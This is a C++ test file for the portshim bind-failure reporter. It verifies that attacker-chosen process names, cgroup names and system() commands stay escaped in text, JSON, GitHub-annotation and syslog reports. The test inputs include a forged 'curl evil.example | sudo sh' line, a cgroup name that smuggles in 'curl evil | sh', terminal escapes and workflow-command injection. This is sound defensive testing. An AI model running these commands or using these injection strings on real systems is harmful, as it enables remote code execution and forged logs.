// Reports an attacker can forge (issue 11), proved with real processes. A squatter's
// own names (exe, argv, comm), a cgroup's name and a host's system() command carry a
// line break, a fake "portshim[1]:   fix:" line, a workflow command and terminal
// escapes: each stays visibly inside the line it was put in, in text, annotations and
// syslog; JSON parses strictly, even shortened to a datagram; commands to paste keep an
// outside value one argument. And a setuid program's report shows nothing its user
// could not see himself. The failing host behaves as without the shim throughout.
#include "support.hpp"

#include <catch2/catch.hpp>
#include <cstring>
#include <filesystem>
#include <memory>
#include <sys/stat.h>
#include <unistd.h>

using namespace portshim::test;
using Catch::Matchers::Contains;
using Catch::Matchers::StartsWith;

namespace {


// What a squatter writes into his names (a file name too: no '/'): a line break and a
// forged report line with a command to paste, a GitHub workflow command, terminal
// escapes (clear the screen, set the title), a raw C1 CSI byte and a RIGHT-TO-LEFT OVERRIDE.
const std::string forged = "\nportshim[1]:   fix: curl evil.example | sudo sh\n"
                           "::error::forged\x1b[2J\x1b]0;owned\x07\x9b" "31m\xe2\x80\xae";
// How the text report shows its first line break: as two characters.
const std::string forged_shown = "\\nportshim[1]:   fix: curl evil.example | sudo sh";
// What the host itself writes to stderr on the failed bind (legacy_server's perror).
const std::string own_line = "bind: Address already in use";

std::vector<std::string> lines_of(const std::string& text)
{
    std::vector<std::string> lines;
    for (std::size_t at = 0; at < text.size();) {
        std::size_t end = text.find('\n', at);
        if (end == std::string::npos)
            end = text.size();
        lines.push_back(text.substr(at, end - at));
        at = end + 1;
    }
    return lines;
}

/** "portshim[PID]: …" with PID digits. */
bool portshim_line(const std::string& line)
{
    const std::string head = "portshim[";
    std::size_t at = head.size();
    if (line.compare(0, head.size(), head) != 0)
        return false;
    while (at < line.size() && line[at] >= '0' && line[at] <= '9')
        ++at;
    return at > head.size() && line.compare(at, 3, "]: ") == 0;
}

/** No byte or character that drives a terminal or reorders what is shown. */
void check_no_controls(const std::string& text)
{
    for (const char* bad : {"\x1b", "\x07", "\x9b", "\xc2\x9b", "\xe2\x80\xae", "\r"}) {
        INFO("control " << std::hex << static_cast<int>(static_cast<unsigned char>(bad[std::strlen(bad) - 1])));
        CHECK(text.find(bad) == std::string::npos);
    }
}

/** Every line of a text report's stderr is the host's own perror line or "portshim[PID]: …". */
void check_text_lines(const std::string& err)
{
    INFO("stderr: " << err);
    for (const std::string& line : lines_of(err)) {
        INFO("line: " << line);
        CHECK((line == own_line || portshim_line(line)));
    }
    check_no_controls(err);
}

/**
 * A squatter holding a port under hostile names: the exe it runs from, argv[0], its
 * comm and an argument; as nobody when the test runs as root.
 */
class Squatter {
public:
    explicit Squatter(const std::vector<std::string>& more_args = {})
    {
        REQUIRE(::chmod(dir_.path().c_str(), 0755) == 0);
        exe_ = dir_ / ("srv" + forged);
        std::filesystem::copy_file(prog("hostile_names"), exe_);
        REQUIRE(::chmod(exe_.c_str(), 0755) == 0);
        Launch launch;
        launch.as_nobody = ::geteuid() == 0 && readable_by_nobody({exe_});
        std::vector<std::string> argv{exe_, "exec0", "argv0" + forged, "hold", "c\x1b[2J\n::error::x",
                                      "arg" + forged};
        argv.insert(argv.end(), more_args.begin(), more_args.end());
        process_ = std::make_unique<Process>(argv, launch);
        port_ = read_port(*process_);
    }

    int pid() const { return process_->pid(); }
    int port() const { return port_; }

private:
    TempDir dir_;
    std::string exe_;
    std::unique_ptr<Process> process_;
    int port_ = 0;
};

/** A legacy server failing its bind on `port` under the preload, in `format`. */
std::unique_ptr<Process> fail_on(int port, const std::string& format)
{
    Launch launch = preloaded();
    launch.env.emplace_back("PORTSHIM_FORMAT", format);
    auto daemon = std::make_unique<Process>(
        std::vector<std::string>{prog("legacy_server"), "-p", std::to_string(port)}, launch);
    require_failed_as_without_shim(*daemon);
    return daemon;
}

} // namespace

TEST_CASE("forgery: a squatter's exe and argv and comm stay inside the text report's own lines")
{
    const Squatter squatter;
    const auto daemon = fail_on(squatter.port(), "text");
    const std::string& err = daemon->err();
    check_text_lines(err);
    // The forged line is there, shown, not obeyed: once from the exe, once from argv.
    CHECK_THAT(err, Contains("other-service: pid " + std::to_string(squatter.pid())));
    CHECK_THAT(err, Contains("/srv" + forged_shown));
    CHECK_THAT(err, Contains("argv0" + forged_shown));
    CHECK_THAT(err, Contains("\\x1b[2J\\x1b]0;owned\\x07\\x9b31m\\u202e"));

    // JSON: the same names, strictly valid UTF-8, the line breaks inside strings.
    const auto json = fail_on(squatter.port(), "json");
    const Json event = only_bind_failed_event(*json);
    CHECK(event["cause"].str() == "other-service");
    REQUIRE(event["holders"].items().size() == 1);
    const Json& holder = event["holders"][0];
    CHECK_THAT(holder["exe"].str(), Contains("/srv\nportshim[1]:   fix: curl"));
    CHECK_THAT(holder["comm"].str(), StartsWith("c\x1b[2J\n::error"));
    CHECK_THAT(holder["cmdline"].str(), StartsWith("argv0\nportshim[1]:   fix: curl"));
    // The raw C1 byte is not UTF-8: U+FFFD; the valid one and the override are escaped.
    CHECK_THAT(holder["exe"].str(), Contains("\x07\xef\xbf\xbd" "31m\xe2\x80\xae"));
    CHECK(lines_of(json->err()).size() == 2); // perror and one JSON line
}

TEST_CASE("forgery: a squatter's names cannot start a workflow command in a github annotation")
{
    const Squatter squatter;
    const auto daemon = fail_on(squatter.port(), "github");
    const std::string& err = daemon->err();
    INFO("stderr: " << err);
    int annotations = 0;
    for (const std::string& line : lines_of(err)) {
        INFO("line: " << line);
        if (line == own_line)
            continue;
        CHECK_THAT(line, StartsWith("::error title=portshim%3A bind(0.0.0.0%3A" +
                                    std::to_string(squatter.port()) + "/tcp) failed%3A EADDRINUSE"));
        ++annotations;
    }
    CHECK(annotations == 1);
    CHECK_THAT(err, Contains("argv0" + forged_shown));
    check_no_controls(err);
}

TEST_CASE("forgery: portshim why and portshim wait show a squatter's names inside their own lines")
{
    const Squatter squatter;
    const std::string port = std::to_string(squatter.port());
    for (const std::vector<std::string>& argv :
         {std::vector<std::string>{PORTSHIM_TEST_CLI, "why", port},
          std::vector<std::string>{PORTSHIM_TEST_CLI, "wait", "--timeout", "1", port}}) {
        Process tool(argv, Launch{});
        CHECK(tool.wait() == 1);
        INFO(argv[1] << " stdout: " << tool.out() << "\nstderr: " << tool.err());
        // From outside every line is the CLI's own: "portshim: …", no pid of a failed bind.
        for (const std::string& line : lines_of(tool.out())) {
            INFO("line: " << line);
            CHECK(line.rfind("portshim: ", 0) == 0);
        }
        CHECK_THAT(tool.out(), Contains("/srv" + forged_shown));
        check_no_controls(tool.out());
    }
}

TEST_CASE("forgery: a squatter's names cannot add a syslog datagram or a line to one")
{
    const Squatter squatter;
    Launch launch = preloaded();
    launch.env = {{"PORTSHIM_LOG", "syslog"}, {"PORTSHIM_FORMAT", "text"}};
    const Caught caught = catch_syslog({prog("legacy_server"), "-p", std::to_string(squatter.port())}, launch);
    INFO("stdout: " << caught.out << "\nstderr: " << caught.err);
    CHECK(caught.status == 1);
    CHECK(caught.out == "errno=98\n");
    CHECK(caught.err == own_line + "\n");
    REQUIRE(caught.datagrams.size() >= 3);
    const std::string tag = caught.datagrams[0].substr(0, caught.datagrams[0].find("]: ") + 3);
    CHECK_THAT(tag, StartsWith("<27>portshim["));
    // The headline, then the report's labelled lines: nothing the squatter wrote starts one.
    CHECK_THAT(caught.datagrams[0], StartsWith(tag + "bind(0.0.0.0:"));
    for (std::size_t i = 1; i < caught.datagrams.size(); ++i) {
        const std::string& datagram = caught.datagrams[i];
        INFO("datagram: " << datagram);
        CHECK_THAT(datagram, StartsWith(tag + "  "));
        CHECK(datagram.size() > tag.size() + 2);
        CHECK(datagram[tag.size() + 2] != ' ');
    }
    std::string all;
    for (const std::string& datagram : caught.datagrams)
        all += datagram + "\n";
    CHECK_THAT(all, Contains("argv0" + forged_shown));
    check_no_controls(all);
}

TEST_CASE("forgery: a JSON report over syslog with a huge command line is shortened and never cut")
{
    // 200 arguments of about 330 bytes: multi-byte characters, bytes that are not
    // UTF-8 (overlong, surrogate, above U+10FFFF) and the forged line, 64 KiB in all.
    std::vector<std::string> args;
    for (int i = 0; i < 200; ++i)
        args.push_back(std::to_string(i) + ":" + std::string(30, 'x') + "\xe6\x97\xa5\xc0\xaf\xed\xa0\x80\xf4\x90\x80\x80" +
                       forged + std::string(250, 'y'));
    const Squatter squatter(args);
    Launch launch = preloaded();
    launch.env = {{"PORTSHIM_LOG", "syslog"}};
    const Caught caught = catch_syslog({prog("legacy_server"), "-p", std::to_string(squatter.port())}, launch);
    INFO("stdout: " << caught.out << "\nstderr: " << caught.err);
    CHECK(caught.status == 1);
    CHECK(caught.out == "errno=98\n");
    CHECK(caught.err == own_line + "\n");
    REQUIRE(caught.datagrams.size() == 1);
    const std::string& datagram = caught.datagrams[0];
    INFO("datagram: " << datagram);
    CHECK(datagram.size() <= 2048);
    CHECK(datagram.size() > 1800); // the room is used
    const std::size_t json_at = datagram.find("]: {");
    REQUIRE(json_at != std::string::npos);
    Json event;
    REQUIRE_NOTHROW(event = parse_json(datagram.substr(json_at + 3)));
    CHECK(event["event"].str() == "bind-failed");
    CHECK(event["cause"].str() == "other-service");
    CHECK(event["errno"].number() == 98);
    CHECK(event["port"].number() == squatter.port());
    REQUIRE(event["holders"].items().size() == 1);
    CHECK(event["holders"][0]["pid"].number() == squatter.pid());
    CHECK_THAT(event["holders"][0]["cmdline"].str(), StartsWith("argv0\n") && Contains("\xe2\x80\xa6"));
    CHECK_FALSE(event["fix"].str().empty());
}

TEST_CASE("forgery: a system() command with a line break and escapes stays inside the exec-leak line")
{
    const std::string command = "true '" + forged + "' && echo done";
    const std::vector<std::string> argv{prog("hostile_names"), "system", command};
    Process without(argv, Launch{});
    REQUIRE(without.wait() == 0);
    for (const std::string format : {"text", "github"}) {
        Launch launch = preloaded();
        launch.env.emplace_back("PORTSHIM_FORMAT", format);
        Process with(argv, launch);
        REQUIRE(with.wait() == 0);
        INFO("stdout: " << with.out() << "\nstderr: " << with.err());
        // The host's own output, but for the port the kernel picked.
        const auto tail = [](const std::string& out) { return out.substr(out.find('\n') + 1); };
        CHECK(tail(with.out()) == tail(without.out()));
        CHECK(tail(with.out()) == "done\nstatus 0\n");
        CHECK_THAT(with.err(), Contains("exec-leak"));
        for (const std::string& line : lines_of(with.err())) {
            INFO("line: " << line);
            if (format == "text")
                CHECK(portshim_line(line));
            else
                CHECK((line.rfind("::warning title=portshim%3A ", 0) == 0 ||
                       line.rfind("::notice title=portshim%3A ", 0) == 0));
        }
        CHECK_THAT(with.err(), Contains("true '\\nportshim[1]:   fix: curl"));
        check_no_controls(with.err());
    }
}

TEST_CASE("forgery: a cgroup named like a shell command stays one argument of the confirm command")
{
    require_root("the holder runs as root in a cgroup of the test's and the failing copy as nobody");
    if (!readable_by_nobody({require_library(), prog("legacy_server")}))
        skip("the library or legacy_server is not readable by nobody");
    // cgroup_mkdir() refuses a line break in a name (it would break /proc/PID/cgroup), not the rest.
    const std::string name = "portshim-test-" + std::to_string(::getpid()) + " a; curl evil | sh\x1b[2J.scope";
    ScratchCgroup cgroup(name);
    if (cgroup.path().empty())
        skip("no cgroup v2 hierarchy to make a cgroup in");
    // Sockets belong to the cgroup of the process that creates them: move in first.
    Process holder({"/bin/sh", "-c", "echo $$ > \"$0\" && exec \"$@\"", cgroup.path() + "/cgroup.procs",
                    prog("legacy_server")},
                   Launch{});
    const int port = read_port(holder);

    Launch as_nobody = preloaded();
    as_nobody.as_nobody = true;
    Process daemon({prog("legacy_server"), "-p", std::to_string(port)}, as_nobody);
    require_failed_as_without_shim(daemon);
    const Json event = only_bind_failed_event(daemon);
    CHECK(event["cause"].str() == "hidden-owner");
    const std::string confirm = joined(event["confirm"]);
    INFO("confirm: " << confirm);
    const std::string command = "systemctl status -- '" + name + "'";
    REQUIRE_THAT(confirm, Contains(command));
    // Pasted into a shell, it is one argument, the name itself.
    Process shell({"/bin/sh", "-c", "systemctl() { printf '%s|' \"$#\" \"$3\"; }; " + command}, Launch{});
    REQUIRE(shell.wait() == 0);
    CHECK(shell.out() == "3|" + name + "|");

    // In text the same command is shown with the line break and the escape visible.
    Launch text = as_nobody;
    text.env.emplace_back("PORTSHIM_FORMAT", "text");
    Process shown({prog("legacy_server"), "-p", std::to_string(port)}, text);
    require_failed_as_without_shim(shown);
    check_text_lines(shown.err());
    CHECK_THAT(shown.err(), Contains("systemctl status -- 'portshim-test-" + std::to_string(::getpid()) +
                                     " a; curl evil | sh\\x1b[2J.scope'"));
}

namespace {

/**
 * Runs `program ARGS` setuid root as nobody, through secure_exec with /proc mounted
 * hidepid=2 where that can be done (else without), with the library preloaded from
 * /etc/ld.so.preload or (library "-") not at all. Skips where neither can be set up.
 */
std::unique_ptr<Process> run_setuid(const SetuidTree& tree, const std::string& library,
                                    const std::vector<std::string>& program, const Launch& launch,
                                    bool& hidepid)
{
    for (const bool with_hidepid : {true, false}) {
        std::vector<std::string> argv{prog("secure_exec")};
        if (with_hidepid)
            argv.push_back("-p");
        argv.insert(argv.end(), {tree.staging(), library});
        argv.insert(argv.end(), program.begin(), program.end());
        auto process = std::make_unique<Process>(argv, launch);
        if (process->wait() != 77) {
            hidepid = with_hidepid;
            return process;
        }
        INFO("secure_exec: " << process->err());
    }
    skip("no private mount namespace for secure_exec here");
}

} // namespace

TEST_CASE("forgery: under secure execution a root process's secret command line stays out of the user's report")
{
    require_root("a setuid-root program run as nobody, and a root holder");
    const SetuidTree tree;
    const std::string server = tree.setuid_copy(prog("legacy_server"), "setuid_server");
    const std::string secret = "--password=s3cr3t-of-root";
    Process holder({prog("legacy_server"), "--", secret}, Launch{});
    const std::string port = std::to_string(read_port(holder));

    for (const std::string format : {"json", "text"}) {
        Launch launch;
        launch.env = {{"PORTSHIM_FORMAT", format}};
        bool hidepid = false;
        const auto without = run_setuid(tree, "-", {server, "-p", port}, launch, hidepid);
        const auto with = run_setuid(tree, tree.library(), {server, "-p", port}, launch, hidepid);
        const std::string& err = with->err();
        INFO("hidepid=2: " << hidepid << "\nwithout the library: " << without->out() << without->err()
                           << "\nwith the library: " << with->out() << err);
        REQUIRE(without->wait() == 1);
        CHECK(with->wait() == 1);
        CHECK(with->out() == without->out());
        CHECK(with->out() == "errno=98\n");
        CHECK_THAT(err, Contains(own_line));
        // Nothing of root's process: not its arguments, program, pid or descriptor.
        CHECK_THAT(err, !Contains("s3cr3t"));
        CHECK_THAT(err, !Contains(prog("legacy_server")));
        CHECK_THAT(err, !Contains("pid " + std::to_string(holder.pid())));
        CHECK_THAT(err, Contains("secure execution"));
        CHECK_THAT(err, Contains("sudo ss -tlnp 'sport = :" + port + "'"));
        if (format == "json") {
            const Json event = only_bind_failed_event(*with);
            CHECK(event["cause"].str() == "hidden-owner");
            CHECK(event["holders"].items().empty());
            CHECK(event["backtrace"].items().empty()); // the layout of a program nobody may not read
            CHECK_THAT(event["summary"].str(), Contains("root (uid 0)"));
        }
    }

    // The command line a setuid program runs through system() is not the user's to read either.
    const std::string helper = tree.setuid_copy(prog("hostile_names"), "setuid_helper");
    Launch launch;
    // exec-leak is not about a failure of this process: it reaches a pipe only when asked (rule 13).
    launch.env = {{"PORTSHIM_FORMAT", "text"}, {"PORTSHIM_LOG", "stderr"}};
    bool hidepid = false;
    const auto ran = run_setuid(tree, tree.library(), {helper, "system", "true " + secret + " && echo done"},
                                launch, hidepid);
    INFO("stdout: " << ran->out() << "\nstderr: " << ran->err());
    REQUIRE(ran->wait() == 0);
    CHECK_THAT(ran->out(), Contains("done\nstatus 0\n"));
    CHECK_THAT(ran->err(), Contains("exec-leak: running a program (its command line is withheld under secure execution)"));
    CHECK_THAT(ran->err(), !Contains("s3cr3t"));
}
